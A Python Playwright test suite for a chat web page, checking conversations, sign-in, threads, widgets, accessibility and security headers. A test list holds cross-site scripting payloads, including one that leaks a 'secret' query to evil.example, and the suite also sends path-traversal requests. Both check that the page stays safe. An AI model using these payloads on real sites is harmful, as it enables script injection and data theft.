"""The chat page in a real browser, against real backends."""

import itertools
import re
import shlex
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import httpx
import pytest
from axe_playwright_python.sync_playwright import Axe
from fastapi import Request
from playwright.sync_api import Browser, Page, Route, expect

from tests.backend import Backend, app_with_page_at, message, within
from tests.providers import talking_to
from tests.render import render, render_into
from tests.show import DELTAS, show_server
from tests.standins import Answer, HttpError, StandIn, Text

WORDS = [f"word{number} " for number in range(400)]
MOST_BYTES = 72_000
"""What may come over the wire, before compression: the page stays a thing that one can read."""


class Visitor:
    """Somebody at the page: what they do, and what they see."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.url = url
        self.text = page.get_by_role("textbox", name="Message")
        self.log = page.get_by_role("log")
        self.answers = self.log.locator(".assistant_message")
        self.asked = self.log.locator(".user_message")
        self.alert = page.get_by_role("alert")

    def open(self, path: str = "/") -> "Visitor":
        self.page.goto(self.url + path)
        expect(self.text).to_be_focused()
        return self

    def write(self, text: str) -> None:
        self.text.fill(text)
        self.button("Send").click()

    def say(self, text: str) -> None:
        """Write, and wait until the answer has ended."""
        self.write(text)
        expect(self.button("Send")).to_be_visible()
        expect(self.log).to_have_attribute("aria-busy", "false")

    def button(self, name: str) -> Any:
        return self.page.get_by_role("button", name=name, exact=True)

    def heard(self) -> list[str]:
        """The answers, without their buttons."""
        return [text.strip() for text in self.answers.locator(".markdown").all_inner_texts()]


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page on which nothing may go wrong unseen: no error, and no request to another host."""
    context = browser.new_context(
        viewport={"width": 1200, "height": 800}, permissions=["clipboard-read", "clipboard-write"]
    )
    opened = context.new_page()
    opened.set_default_timeout(15_000)
    wrong: list[str] = []
    opened.on("pageerror", lambda error: wrong.append(f"error: {error}"))
    opened.on(
        "request", lambda request: wrong.append(request.url) if foreign(request.url) else None
    )
    opened.on(
        "console",
        lambda told: (
            wrong.append(told.text)
            # The browser tells of every 4xx and 5xx; what the page makes of them is tested.
            if told.type in ("error", "warning")
            and not told.text.startswith("Failed to load resource")
            else None
        ),
    )
    yield opened
    context.close()
    assert wrong == []


def foreign(url: str) -> bool:
    return not re.match(r"http://127\.0\.0\.1:|data:|blob:", url)


@pytest.fixture
def agent(standin: StandIn, tmp_path: Path) -> Iterator[Backend]:
    """A generated level 2 backend, whose model is the stand-in."""
    with talking_to(standin, tmp_path) as backend:
        yield backend


@pytest.fixture
def show() -> Iterator[Backend]:
    """A backend that shows what it is asked for: see tests/show.py."""
    uploads: dict[str, bytes] = {}
    backend = Backend(
        render(level=2, provider="local", store="memory"),
        {},
        lambda main: show_server(main, lambda: backend.url),
    )

    async def upload(name: str, request: Request) -> None:
        uploads[name] = await request.body()

    backend.main.app.put("/upload/{name}")(upload)
    backend.main.server.uploads = uploads
    with backend:
        yield backend


def thread_in(page: Page) -> str:
    return page.url.partition("#")[2]


# --- A conversation ---


def test_a_first_and_a_second_message_are_answered_and_there_after_a_reload(
    page: Page, agent: Backend, standin: StandIn
) -> None:
    standin.answers(Answer(Text("Hello, **Ada**.")), Answer(Text("Ada, you said.")))
    visitor = Visitor(page, agent.url).open()
    expect(page.get_by_role("heading", level=1)).to_have_text(re.compile("project"))
    expect(page.locator("#starters button")).to_have_count(3)
    visitor.say("My name is Ada.")
    expect(page.locator("#welcome")).to_be_hidden()
    expect(visitor.text).to_have_value("")
    visitor.say("What is my name?")
    assert visitor.heard() == ["Hello, Ada.", "Ada, you said."]
    expect(visitor.answers.locator("strong")).to_have_text("Ada")
    assert ("user", "My name is Ada.") in standin.requests[1].turns

    page.reload()
    expect(visitor.answers).to_have_count(2)
    assert visitor.heard() == ["Hello, Ada.", "Ada, you said."]
    assert visitor.asked.all_inner_texts()[0].endswith("My name is Ada.")
    expect(page.get_by_role("button", name="My name is Ada.")).to_be_visible()


def test_a_starter_begins_a_chat(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.button("Show a thought").click()
    expect(visitor.answers).to_have_count(1)
    assert visitor.heard() == ["It depends."]


def test_a_missing_key_is_told_before_the_first_message(page: Page) -> None:
    with Backend(render(level=2, provider="gemini", store="memory"), {}) as backend:
        visitor = Visitor(page, backend.url).open()
        expect(page.locator("#hint")).to_contain_text("GEMINI_API_KEY is not set")
        expect(page.locator("#hint")).to_contain_text(".env")
        visitor.write("Hello?")
        expect(visitor.alert).to_contain_text("GEMINI_API_KEY is not set")


def test_the_hello_world_has_its_page_too(page: Page) -> None:
    with Backend(render(level=1, store="memory"), {}) as backend:
        visitor = Visitor(page, backend.url).open()
        visitor.say("Is it on?")
        assert visitor.heard() == ["Hello! You wrote: Is it on?"]


def test_stop_in_mid_answer_keeps_what_was_said(
    page: Page, agent: Backend, standin: StandIn
) -> None:
    standin.answers(Answer(Text(WORDS), delay=0.02), Answer(Text("As you wish.")))
    visitor = Visitor(page, agent.url).open()
    visitor.write("Tell me a long story.")
    expect(visitor.answers).to_contain_text("word5")
    visitor.button("Stop").click()
    assert standin.wait_closed(0, timeout=2), "the model goes on"
    expect(page.get_by_text("Stopped.")).to_be_visible()
    agent.settle()

    page.reload()
    expect(visitor.answers).to_contain_text("word0 word1")
    expect(visitor.answers).not_to_contain_text("word300")
    visitor.say("Stop that.")
    assert visitor.heard()[-1] == "As you wish."


def test_retry_after_a_failure_answers_once(page: Page, agent: Backend, standin: StandIn) -> None:
    standin.answers(HttpError(500), Answer(Text("Now it works.")))
    visitor = Visitor(page, agent.url).open()
    visitor.write("Hello?")
    expect(visitor.alert).to_contain_text(re.compile(r"overloaded.*\(Request \w+\)"))
    visitor.button("Retry").click()
    expect(visitor.answers).to_have_count(1)
    expect(visitor.alert).to_have_count(0)
    page.reload()
    expect(visitor.answers).to_have_count(1)
    expect(visitor.asked).to_have_count(1)
    assert visitor.heard() == ["Now it works."]


def test_a_failure_of_the_project_s_code_has_a_sentence_and_a_request_id(
    page: Page, show: Backend
) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.write("Fail")
    expect(visitor.alert).to_contain_text(re.compile(r"own code failed.*\(Request \w+\)"))
    expect(visitor.alert).not_to_contain_text("secret")


def test_a_message_that_is_refused_stays_where_it_was_written(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.write("x" * 1_100_000)
    expect(visitor.alert).to_contain_text(re.compile(r"too large.*\(Request \w+\)"))
    assert len(visitor.text.input_value()) == 1_100_000


def test_a_server_that_is_gone_is_told(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    page.route("**/chatkit", lambda route: route.abort())
    visitor.write("Are you there?")
    expect(visitor.alert).to_contain_text("cannot be reached")
    expect(visitor.text).to_have_value("Are you there?")


def test_a_locked_conversation_takes_no_message(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.say("Lock it")
    expect(visitor.text).to_be_disabled()
    expect(visitor.text).to_have_attribute("placeholder", re.compile("locked.*under review"))


# --- Signing in ---

TOKEN = "s3cret.token"


def ask_for_token(page: Page, challenge: str | None = "Bearer") -> list[str]:
    """Let nobody in without the token: gives the list of all tokens that have let somebody in."""
    accepted = [TOKEN]

    def guard(route: Route) -> None:
        given = route.request.headers.get("authorization", "")
        if given.removeprefix("Bearer ") in accepted:
            return route.continue_()
        detail = "Your session has ended." if given else "Please sign in."
        headers = {"WWW-Authenticate": challenge} if challenge else {}
        return route.fulfill(status=401, headers=headers, json={"detail": detail})

    page.route("**/chatkit", guard)
    page.route("**/upload/*", guard)
    return accepted


def sign_in(page: Page, token: str) -> None:
    page.get_by_label("Sign in with a token").fill(token)
    page.get_by_role("button", name="Sign in", exact=True).click()


def test_a_token_is_asked_for_and_sent_from_then_on(
    page: Page, show: Backend, tmp_path: Path
) -> None:
    show.say("Earlier")
    ask_for_token(page, 'Bearer realm="chat", error="invalid_token"')
    page.goto(show.url)
    form = page.locator("#sign-in")
    expect(form.get_by_role("alert")).to_have_text("Please sign in.")
    expect(page.get_by_label("Sign in with a token")).to_be_focused()
    assert barriers(page) == []
    sign_in(page, "wrong")
    expect(form.get_by_role("alert")).to_have_text("Your session has ended.")
    sign_in(page, f" {TOKEN} ")
    expect(form).to_be_hidden()
    expect(page.locator(".thread")).to_have_text(["Earlier"])

    visitor = Visitor(page, show.url)
    (tmp_path / "notes.txt").write_text("some notes")
    page.locator("input[type=file]").set_input_files([tmp_path / "notes.txt"])
    expect(page.locator("#extras li")).to_have_count(1)
    visitor.say("Hello")
    assert visitor.heard() == ["You wrote: Hello"]
    assert show.main.server.uploads["notes.txt"] == b"some notes"
    page.reload()
    expect(visitor.answers).to_have_count(1)
    expect(form).to_be_hidden()
    # It stays in this tab, and out of everything that is copied.
    assert page.evaluate("[localStorage.length, document.cookie]") == [0, ""]
    visitor.say("Hello again")
    visitor.button("Events").click()
    visitor.button("Copy as curl").click()
    command = page.evaluate("navigator.clipboard.readText()")
    assert '-H "Authorization: Bearer $TOKEN"' in command
    assert TOKEN not in command


def test_a_message_outlives_the_end_of_a_session(page: Page, show: Backend) -> None:
    accepted = ask_for_token(page)
    page.goto(show.url)
    sign_in(page, TOKEN)
    visitor = Visitor(page, show.url)
    visitor.say("One")
    accepted[:] = ["another"]
    visitor.write("Two")
    expect(page.locator("#sign-in").get_by_role("alert")).to_have_text("Your session has ended.")
    expect(visitor.text).to_have_value("Two")
    visitor.button("Stop").click()
    expect(page.get_by_text("Stopped.")).to_be_visible()
    expect(visitor.text).to_have_value("Two")
    visitor.button("Send").click()
    sign_in(page, "another")
    expect(visitor.answers).to_have_count(2)
    assert visitor.heard() == ["You wrote: One", "You wrote: Two"]
    expect(visitor.text).to_have_value("")


@pytest.mark.parametrize("challenge", [None, "Basic"])
def test_another_401_is_told_in_the_server_s_words(
    page: Page, show: Backend, challenge: str | None
) -> None:
    ask_for_token(page, challenge)
    visitor = Visitor(page, show.url).open()
    expect(visitor.alert).to_have_text("Please sign in.")
    expect(page.locator("#sign-in")).to_be_hidden()
    visitor.write("Hello")
    expect(visitor.alert).to_have_text("Please sign in.")
    expect(visitor.text).to_have_value("Hello")


# --- Once is once ---


def test_a_double_click_sends_once_and_stops_nothing(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.text.fill("Wait: 20")
    visitor.button("Send").dblclick()
    expect(visitor.answers).to_contain_text("19")
    expect(page.get_by_text("Stopped.")).to_have_count(0)
    assert len(show.main.server.said) == 1


@pytest.mark.parametrize("name", ["Add one", "Save", "Good answer"])
def test_a_busy_button_does_nothing_more(page: Page, show: Backend, name: str) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.say("Say: Yes.")
    visitor.say("Show a widget")
    page.get_by_placeholder("Your name").fill("Ada")
    held: list[Route] = []
    page.route("**/chatkit", lambda route: held.append(route))
    visitor.button(name).dblclick()
    visitor.button(name).press("Enter")
    assert len(held) == 1
    held[0].continue_()
    expect(visitor.button(name)).to_be_enabled()
    assert len(held) == 1


def test_retry_after_a_lost_connection_takes_nothing_away(page: Page, show: Backend) -> None:
    """The failed message is still in its field; what was answered before is not asked again."""
    visitor = Visitor(page, show.url).open()
    visitor.say("One")
    page.reload()
    expect(visitor.answers).to_have_count(1)
    page.route("**/chatkit", lambda route: route.abort())
    visitor.write("Two")
    expect(visitor.alert).to_contain_text("cannot be reached")
    expect(visitor.button("Retry")).to_have_count(0)
    page.unroute("**/chatkit")
    visitor.button("Send").click()
    expect(visitor.answers).to_have_count(2)
    assert visitor.heard() == ["You wrote: One", "You wrote: Two"]


# --- The threads ---


def test_threads_are_listed_renamed_and_deleted(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    for text in ("One", "Two"):
        visitor.say(text)
        visitor.button("New chat").click()
        expect(visitor.answers).to_have_count(0)
    titles = page.locator(".thread")
    expect(titles).to_have_text(["Two", "One"])

    visitor.button("One").click()
    expect(visitor.answers).to_contain_text("You wrote: One")
    row = page.locator("li[aria-current]")
    page.once("dialog", lambda dialog: dialog.accept("The first"))
    row.get_by_role("button", name="Rename").click()
    expect(titles).to_have_text(["Two", "The first"])
    expect(page).to_have_title(re.compile("^The first"))

    page.once("dialog", lambda dialog: dialog.dismiss())
    row.get_by_role("button", name="Delete").click()
    expect(titles).to_have_count(2)
    page.once("dialog", lambda dialog: dialog.accept())
    row.get_by_role("button", name="Delete").click()
    expect(titles).to_have_text(["Two"])
    expect(visitor.answers).to_have_count(0)
    page.reload()
    expect(titles).to_have_text(["Two"])


def test_old_threads_and_old_messages_come_by_pages(page: Page, show: Backend) -> None:
    thread = show.say("The long one").thread
    for number in range(60):
        show.say(f"Message {number}", thread)
    for number in range(40):
        show.say(f"Chat {number}")
    visitor = Visitor(page, show.url).open()
    expect(page.locator(".thread")).to_have_count(30)
    visitor.button("Older chats").click()
    expect(page.locator(".thread")).to_have_count(41)
    visitor.button("The long one").click()
    expect(visitor.log.get_by_text("You wrote: Message 59")).to_be_in_viewport()
    while visitor.button("Earlier messages").is_visible():
        shown = visitor.log.locator(".item").count()
        visitor.button("Earlier messages").click()
        expect(visitor.log.locator(".item").nth(shown)).to_be_attached()
    heard = visitor.heard()
    assert heard[0] == "You wrote: The long one"
    assert heard[1:] == [f"You wrote: Message {number}" for number in range(60)]


def test_an_answer_goes_on_while_another_thread_is_open(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.write("Wait: 60")
    expect(visitor.answers).to_contain_text("3")
    visitor.button("New chat").click()
    expect(visitor.answers).to_have_count(0)
    visitor.say("Meanwhile")
    page.get_by_role("button", name="Wait: 60").click()
    expect(visitor.answers).to_contain_text("59")
    assert len(visitor.heard()) == 1


def test_back_leads_to_the_thread_before(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.say("One")
    first = thread_in(page)
    visitor.button("New chat").click()
    visitor.say("Two")
    page.go_back()
    page.go_back()
    expect(visitor.answers).to_contain_text("You wrote: One")
    assert thread_in(page) == first


def test_the_end_stays_in_sight_until_the_reader_scrolls_up(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    long = "Say: " + "a line\n\n" * 12
    for _ in range(4):
        visitor.say(long)
        expect(visitor.answers.last.get_by_text("a line").last).to_be_in_viewport()
    page.locator("#scroller").evaluate("(scroller) => scroller.scrollTo(0, 0)")
    expect(visitor.asked.first).to_be_in_viewport()
    visitor.say(long)
    expect(visitor.asked.first).to_be_in_viewport()


def test_an_unknown_thread_in_the_address_is_told(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open("/#thr_unknown")
    expect(visitor.alert).to_contain_text("no such thread")


# --- What items there are ---


def test_a_widget_s_button_acts_and_its_form_sends_what_was_typed(
    page: Page, show: Backend
) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.say("Show a widget")
    visitor.button("Add one").click()
    expect(visitor.log.get_by_text("Count: 1")).to_be_visible()
    visitor.button("Add one").click()
    expect(visitor.log.get_by_text("Count: 2")).to_be_visible()
    page.get_by_placeholder("Your name").fill("Ada")
    visitor.button("Save").click()
    expect(visitor.log).to_have_attribute("aria-busy", "false")
    assert show.main.server.actions == [
        ("add", {"count": 0}),
        ("add", {"count": 1}),
        ("rename", {"from": "form", "user": {"name": "Ada"}}),
    ]
    page.reload()
    expect(visitor.log.get_by_text("Count: 2")).to_be_visible()


def test_a_widget_s_action_may_be_the_page_s_own_or_answered_at_once(
    page: Page, show: Backend
) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.say("Show a widget")
    visitor.button("Paint").click()
    expect(visitor.alert).to_contain_text("page/handlers.js has no action paint")
    visitor.button("Check").click()
    expect(visitor.log.get_by_text("Count: 99")).to_be_visible()
    assert [kind for kind, _ in show.main.server.actions] == ["check"]

    page.route(
        "**/page/handlers.js",
        lambda route: patched(
            route,
            "export const actions = {",
            "export const actions = { paint: ({ colour }) => (document.body.title = colour),",
        ),
    )
    page.reload()
    visitor.button("Paint").click()
    expect(page.locator("body")).to_have_attribute("title", "red")
    expect(visitor.alert).to_have_count(0)


def test_the_page_s_handler_of_an_action_sends_others(page: Page, show: Backend) -> None:
    page.route(
        "**/page/handlers.js",
        lambda route: patched(
            route,
            "export const actions = {",
            """export const actions = { paint: async (payload, item, send) => {
                await send({ type: "painted", payload });
                await send({ type: "add", payload: { count: 6 } }, item.id);
            },""",
        ),
    )
    visitor = Visitor(page, show.url).open()
    visitor.say("Show a widget")
    visitor.button("Paint").click()
    expect(visitor.log.get_by_text("Count: 7")).to_be_visible()
    assert show.main.server.actions == [("painted", {"colour": "red"}), ("add", {"count": 6})]


def test_client_tools_are_run_in_the_page_one_after_the_other(page: Page, show: Backend) -> None:
    page.route(
        "**/page/handlers.js",
        lambda route: patched(
            route,
            "export const clientTools = {",
            "export const clientTools = { first: ({ number }) => ({ doubled: number * 2 }),",
        ),
    )
    visitor = Visitor(page, show.url).open()
    visitor.write("Show a client tool")
    expect(visitor.answers).to_have_count(2)
    first, then = visitor.heard()
    assert first == "First: {'doubled': 40}"
    # There is no second one: the model is told so, instead of waiting for ever.
    assert "has no client tool second" in then
    expect(visitor.log.get_by_text("first ran in this page")).to_be_visible()
    page.reload()
    expect(visitor.log.get_by_text("first ran in this page")).to_be_visible()


def patched(route: Route, old: str, new: str) -> None:
    response = route.fetch()
    body = response.text()
    assert old in body
    route.fulfill(response=response, body=body.replace(old, new))


def test_an_effect_reaches_its_handler(page: Page, show: Backend) -> None:
    page.route(
        "**/page/handlers.js",
        lambda route: patched(
            route,
            "export const effects = {",
            "export const effects = { paint: ({ colour }) => (document.body.title = colour),",
        ),
    )
    Visitor(page, show.url).open().say("Show an effect")
    expect(page.locator("body")).to_have_attribute("title", "green")


def test_a_question_is_answered_in_a_form(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.say("Show a question")
    page.get_by_label("blue").check()
    page.get_by_label("And why?").fill("The sea")
    visitor.button("Answer").click()
    expect(visitor.answers).to_have_count(1)
    assert visitor.heard() == ["You chose: ['blue', 'The sea']"]
    page.reload()
    expect(visitor.log.locator("dl")).to_contain_text("blue")


def test_thoughts_fold_and_progress_passes(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.say("Show a thought")
    fold = visitor.log.locator(".workflow details")
    expect(fold.locator("summary")).to_have_text("Thought about it")
    expect(fold.get_by_text("Both sides count.")).to_be_hidden()
    fold.locator("summary").click()
    expect(fold.get_by_text("Both sides count.")).to_be_visible()
    visitor.write("Show progress")
    expect(visitor.log.get_by_text("Looking it up…")).to_be_visible()
    expect(visitor.answers).to_have_count(2)
    expect(visitor.log.get_by_text("Looking it up…")).to_have_count(0)


def test_notices_and_sources_are_shown(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.say("Show a notice")
    expect(visitor.log.locator(".note")).to_have_text("Careful: Nearly full.")
    visitor.say("Show a source")
    link = page.get_by_role("link", name="The docs")
    expect(link).to_have_attribute("href", "https://example.com/docs")
    expect(link).to_have_attribute("rel", re.compile("noopener"))


def test_feedback_model_and_files_reach_the_server(
    page: Page, show: Backend, tmp_path: Path
) -> None:
    server = show.main.server
    visitor = Visitor(page, show.url).open()
    visitor.say("Say: The sea is deep.")
    visitor.button("Good answer").click()
    expect(visitor.button("Good answer")).to_have_attribute("aria-pressed", "true")
    [thread, *_] = show.http.get("/debug/threads").json()["threads"]
    assert list(thread["feedback"].values()) == ["positive"]

    visitor.button("Copy").click()
    assert page.evaluate("navigator.clipboard.readText()") == "The sea is deep."
    page.get_by_label("Model").select_option("The clever one")
    (tmp_path / "notes.txt").write_text("some notes")
    (tmp_path / "other.txt").write_text("others")
    page.locator("input[type=file]").set_input_files(
        [tmp_path / "notes.txt", tmp_path / "other.txt"]
    )
    page.get_by_role("button", name="Take other.txt away").click()
    expect(page.locator("#extras li")).to_have_count(1)
    visitor.say("Is it?")
    said = server.said[-1]
    assert said.inference_options.model == "clever"
    assert [file.name for file in said.attachments] == ["notes.txt"]
    assert server.uploads["notes.txt"] == b"some notes"
    assert len(server.attachment_store.deleted) == 1
    expect(page.locator("#extras li")).to_have_count(0)
    expect(visitor.asked.last).to_contain_text("notes.txt")


def test_a_tool_is_chosen_for_one_message_or_until_another_is(page: Page, show: Backend) -> None:
    def chosen() -> Any:
        choice = show.main.server.said[-1].inference_options.tool_choice
        return choice and choice.id

    visitor = Visitor(page, show.url).open()
    tool = page.get_by_label("Tool", exact=True)
    visitor.say("Nothing in particular.")
    assert chosen() is None
    tool.select_option("Find it")
    expect(visitor.text).to_have_attribute("placeholder", "What shall I find?")
    visitor.say("The sea.")
    assert chosen() == "find"
    expect(tool).to_have_value("")
    expect(visitor.text).to_have_attribute("placeholder", "Write a message")
    tool.select_option("Paint it")
    for thing in ("The sea.", "The sky."):
        visitor.say(thing)
        assert chosen() == "paint"
    # What is refused is still there to be sent otherwise.
    page.get_by_label("Model").evaluate("(select) => (select.options[0].value = 'gone')")
    visitor.write("The moon.")
    expect(visitor.alert).to_contain_text("'gone' is not offered here. Choose one of quick, clever")
    expect(visitor.text).to_have_value("The moon.")


def test_tags_are_offered_and_sent(page: Page, show: Backend) -> None:
    page.route(
        "**/page/handlers.js",
        lambda route: patched(
            route,
            "export const searchTags = null;",
            'export const searchTags = async () => [{ id: "ada", text: "Ada L", data: { n: 1 } }];',
        ),
    )
    visitor = Visitor(page, show.url).open()
    visitor.text.press_sequentially("Ask @Ad")
    visitor.button("Ada L").click()
    visitor.text.press_sequentially("today")
    visitor.button("Send").click()
    expect(visitor.asked.locator(".tag")).to_have_text("Ada L")
    content = show.main.server.said[-1].content
    assert [part.type for part in content] == ["input_text", "input_tag", "input_text"]
    assert [part.text for part in content] == ["Ask ", "Ada L", " today"]


# --- Hostile and heavy answers ---

HOSTILE = [
    "<img src=x onerror=\"document.title='owned'\">",
    "<script>document.title='owned'</script>",
    "<svg/onload=document.title='owned'>",
    "[click](javascript:document.title='owned')",
    "[click](JaVa\tScript:document.title='owned')",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/?q=secret)",
    "<iframe src=//evil.example>",
    "<a href=//evil.example title='x' onclick='document.title=1'>half open",
    "<style>*{display:none}</style>",
    "[x](https://a.example/\" onmouseover=\"document.title='owned')",
    "`<b>` **half _open",
]


def test_hostile_text_stays_text(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    for text in HOSTILE:
        visitor.say(f"Say: {text}")
    assert "owned" not in page.title()
    for link in visitor.log.locator("a").all():
        assert re.match("https?:", link.get_attribute("href") or "")
    assert visitor.log.locator("img, script, iframe, svg, style").count() == 0
    expect(visitor.answers.first).to_contain_text("<img src=x onerror=")
    page.reload()
    expect(visitor.answers).to_have_count(len(HOSTILE))
    assert "owned" not in page.title()


def test_an_answer_of_thousands_of_deltas_does_not_freeze_the_page(
    page: Page, show: Backend
) -> None:
    visitor = Visitor(page, show.url).open()
    page.evaluate(
        """() => {
            window.drawn = 0;
            const log = document.querySelector("[role=log]");
            new MutationObserver(() => drawn++).observe(log, { childList: true, subtree: true });
        }"""
    )
    visitor.button("Events").click()
    visitor.write(f"Count: {DELTAS}")
    expect(visitor.answers).to_contain_text(str(DELTAS - 1), timeout=60_000)
    expect(visitor.log).to_have_attribute("aria-busy", "false")
    assert visitor.answers.locator("strong").count() == DELTAS - DELTAS // 20
    expect(page.locator("#panel")).to_contain_text(f"{DELTAS} deltas")
    # Once for each frame at most, and not for each delta, which would take longer and longer.
    assert 0 < page.evaluate("drawn") < DELTAS / 10


# --- The developer's panel ---


def test_the_panel_shows_the_last_turn_and_its_curl_works(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    visitor.button("Events").click()
    visitor.say("Count: 30")
    panel = page.get_by_role("complementary")
    rows = panel.locator("ol > li")
    expect(rows.first).to_contain_text("thread.created")
    expect(panel).to_contain_text(
        re.compile(r"Request \w+: first delta after \d+ ms, 30 deltas, \d+ ms in total")
    )
    expect(rows.first).to_contain_text(re.compile(r"\d+ ms.*\d+ B"))
    rows.first.locator("summary").click()
    expect(rows.first.locator("pre")).to_contain_text('"type": "thread.created"')

    panel.get_by_role("button", name="Copy as curl").click()
    command = shlex.split(page.evaluate("navigator.clipboard.readText()"))
    assert command[:2] == ["curl", "-N"]
    url, *options = [word for word in command[2:] if word.strip()]
    headers = dict(
        header.split(": ") for flag, header in itertools.pairwise(options) if flag == "-H"
    )
    response = httpx.post(url, headers=headers, content=options[options.index("-d") + 1])
    assert response.status_code == 200
    assert "thread.created" in response.text

    # What the page asks by itself does not push the turn away.
    visitor.button("Good answer").click()
    expect(visitor.button("Good answer")).to_have_attribute("aria-pressed", "true")
    expect(rows.first).to_contain_text("thread.created")
    # But it can be chosen, and copied as well.
    panel.get_by_role("combobox", name="Request").select_option("items.feedback")
    expect(rows).to_have_count(1)
    panel.get_by_role("button", name="Copy as curl").click()
    assert "items.feedback" in page.evaluate("navigator.clipboard.readText()")


def test_the_stream_is_read_whole_however_it_is_cut(page: Page, show: Backend) -> None:
    Visitor(page, show.url).open()
    stream = (
        ': a comment\r\n\r\ndata: {"n": 1}\r\n\r\n: more\n\n'
        'event: x\ndata:{"n":\ndata: "zwölf"}\n\nid: 7\rdata: {"n": 3}\r\rdata: {"never": "ended"}'
    )
    for size in (1, 2, 3, 7, 1000):
        read = page.evaluate(
            """async ([text, size]) => {
                const { serverSentEvents } = await import("./page/protocol.js");
                const bytes = new TextEncoder().encode(text);
                const body = new ReadableStream({
                    start(controller) {
                        for (let at = 0; at < bytes.length; at += size)
                            controller.enqueue(bytes.slice(at, at + size));
                        controller.close();
                    },
                });
                const read = [];
                for await (const data of serverSentEvents(body)) read.push(JSON.parse(data));
                return read;
            }""",
            [stream, size],
        )
        assert read == [{"n": 1}, {"n": "zwölf"}, {"n": 3}], size


# --- For everyone ---


def test_the_keyboard_is_enough(page: Page, show: Backend) -> None:
    visitor = Visitor(page, show.url).open()
    page.keyboard.type("One")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("line more")
    page.keyboard.press("Enter")
    expect(visitor.answers).to_contain_text("One line more")
    page.keyboard.type("Show a widget")
    page.keyboard.press("Enter")
    expect(visitor.button("Add one")).to_be_visible()
    reach(page, "Add one")
    page.keyboard.press("Enter")
    expect(visitor.log.get_by_text("Count: 1")).to_be_visible()
    page.once("dialog", lambda dialog: dialog.accept("Renamed"))
    reach(page, "Rename")
    page.keyboard.press("Enter")
    expect(visitor.button("Renamed")).to_be_visible()


def reach(page: Page, name: str) -> None:
    """Press Tab until the button of this name has the focus, and can be seen to have it."""
    for _ in range(60):
        page.keyboard.press("Tab")
        found = page.evaluate(
            """() => {
                const { ariaLabel, textContent } = document.activeElement;
                const style = getComputedStyle(document.activeElement);
                return [ariaLabel ?? textContent, style.outlineStyle, style.opacity];
            }"""
        )
        if found[0] == name:
            assert found[1] != "none" and found[2] == "1", "the focus cannot be seen"
            return
    raise AssertionError(f"Tab does not reach {name}")


@pytest.mark.parametrize("width", [360, 768, 1600])
def test_every_width_shows_everything(page: Page, show: Backend, width: int) -> None:
    page.set_viewport_size({"width": width, "height": 740})
    visitor = Visitor(page, show.url).open()
    visitor.say(
        "Say: " + "averylongword" * 30 + "\n\n| a | b |\n|---|---|\n| " + "cell " * 60 + "| 2 |"
    )
    visitor.say("Show a widget")
    visitor.say("Show a question")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    if width < 800:
        expect(page.locator("#threads")).to_be_hidden()
        visitor.button("Chats").click()
        visitor.button("New chat").click()
    else:
        visitor.button("New chat").click()
    expect(page.locator("#welcome")).to_be_visible()
    expect(page.locator("#threads")).to_be_visible(visible=width >= 800)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_keeps_a_screen_reader_out(page: Page, show: Backend, scheme: Any) -> None:
    page.emulate_media(color_scheme=scheme)
    visitor = Visitor(page, show.url).open()
    assert barriers(page) == []
    for text in (
        "Say: # Title\n\n- [x] done\n\n> quoted\n\n```py\nprint()\n```\n\n|a|b|\n|-|-|\n|1|2|",
        "Show a thought",
        "Show a source",
        "Show a question",
        "Show a widget",
    ):
        visitor.say(text)
    visitor.say("Show a notice")
    visitor.button("Events").click()
    assert barriers(page) == []


def barriers(page: Page) -> list[str]:
    found = Axe().run(page).response["violations"]
    return [f"{rule['id']}: {node['html'][:200]}" for rule in found for node in rule["nodes"]]


# --- How it is served ---


def test_the_page_lets_nothing_in_and_stays_small(show: Backend) -> None:
    response = show.http.get("/")
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy and "http" not in policy
    for path, name in (("/", "index.html"), ("/official", "official.html")):
        headers = show.http.get(path).headers, show.http.get(f"/page/{name}").headers
        assert len({each["content-security-policy"] for each in headers}) == 1
    backend = render(level=2, provider="local", store="memory") / "backend"
    folders = [backend / "core" / "http" / "page", backend / "app" / "page"]
    size = 0
    for file in sorted(file for folder in folders for file in folder.iterdir()):
        served = show.http.get(f"/page/{file.name}")
        assert served.status_code == 200, file.name
        assert served.headers["x-content-type-options"] == "nosniff"
        assert served.headers["cache-control"] == "no-cache"
        size += len(served.content)
        again = show.http.get(
            f"/page/{file.name}", headers={"If-None-Match": served.headers["etag"]}
        )
        assert again.status_code == 304
    assert size < MOST_BYTES
    assert show.http.get("/page/../main.py").status_code == 404
    assert show.http.get("/page/%2e%2e/%2e%2e/main.py").status_code == 404


def behind(app: Any, path: str) -> Any:
    """A proxy that takes `path` away and tells nobody."""

    async def proxied(scope: Any, receive: Any, send: Any) -> None:
        if scope["type"] == "http":
            bare = scope["path"].removeprefix(path)
            scope = {**scope, "path": bare, "raw_path": bare.encode()}
        await app(scope, receive, send)

    return proxied


@pytest.mark.parametrize(
